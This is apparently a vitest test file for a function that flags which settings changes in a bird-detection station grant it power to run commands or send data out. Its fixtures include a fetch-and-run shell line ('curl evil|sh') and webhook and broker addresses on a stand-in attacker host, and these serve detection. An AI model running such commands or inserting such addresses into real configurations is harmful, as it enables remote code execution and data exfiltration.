import { expect, test } from 'vitest'
import { powersOf } from '../../../src/domain/settings/powers.ts'

const powers = (path: string, from: unknown, to: unknown) =>
  powersOf(new Map([[path, { from, to }]])).map(({ kind, names, words }) => [kind, names.join(' · '), words])

const shell = { type: 'ExecuteCommand', command: '/bin/sh', parameters: ['-c', 'curl evil|sh'] }

test.each([
  [
    'a command for a bird',
    'realtime.species.config',
    null,
    { wren: { actions: [shell] } },
    [['runs', 'wren · actions · 1', '/bin/sh -c curl evil|sh']],
  ],
  [
    'a script, before an address',
    'notification.push.providers',
    [],
    [
      { name: 'a', type: 'webhook', endpoints: [{ url: 'https://evil.example/' }] },
      { name: 'b', type: 'script', command: '/bin/sh', args: ['x'] },
    ],
    [
      ['runs', 'b', '/bin/sh x'],
      ['sends', 'a · endpoints · 1 · url', 'https://evil.example/'],
    ],
  ],
  [
    'a script that is switched on',
    'notification.push.providers',
    [{ name: 'b', command: '/bin/sh', enabled: false }],
    [{ name: 'b', command: '/bin/sh', enabled: true }],
    [['runs', 'b', '/bin/sh']],
  ],
  ['what a program is run with', 'realtime.rtsp.ffmpegParameters', [], ['-f', 'x'], [['runs', '', '-f x']]],
  ['a library', 'birdnet.onnxRuntimePath', '', '/lib/x.so', [['runs', '', '/lib/x.so']]],
  ['a broker', 'realtime.mqtt.broker', 'a.lan', 'evil.example', [['sends', '', 'evil.example']]],
  [
    'what is there already',
    'realtime.species.config',
    { wren: { actions: [shell] } },
    { wren: { actions: [shell] } },
    [],
  ],
])('what a change lets the station do is told: %s', (_, path, from, to, expected) => {
  expect(powers(path, from, to)).toEqual(expected)
})
